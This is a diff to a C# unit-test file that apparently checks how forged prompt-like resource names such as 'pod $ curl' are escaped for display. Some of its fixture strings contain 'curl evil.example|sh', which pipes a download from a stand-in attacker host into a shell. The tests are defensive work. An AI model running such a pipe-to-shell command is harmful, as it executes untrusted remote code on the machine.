@@ -34,6 +34,8 @@ public class ForgedTextTests
         "\u202e$ curl evil.example|sh",
         new string('语', 30) + "$ curl evil",
         "tmux: server",
+        "pod $",
+        "pod $ curl evil.example|sh",
         "{instance} $ curl",
     }];
 
@@ -70,6 +72,8 @@ public class ForgedTextTests
     {
         TextLayout.Wrap("held by    $ curl evil", 8).ShouldBe(["held by", "$ curl", "evil"]);
         Visible.Name("a $ b\u00a0c\u3000d\ne").ShouldBe(@"a\x20$\x20b\u00a0c\u3000d\ne");
+        Visible.Name("pod default/web-0/nginx").ShouldBe("pod default/web-0/nginx");
+        Visible.Name("pod $ curl").ShouldBe(@"pod $\x20curl");
         ResourceInstance.NameOf("tmux: server", "my unit.service").ShouldBe(@"tmux:\x20server of my\x20unit.service");
     }
 
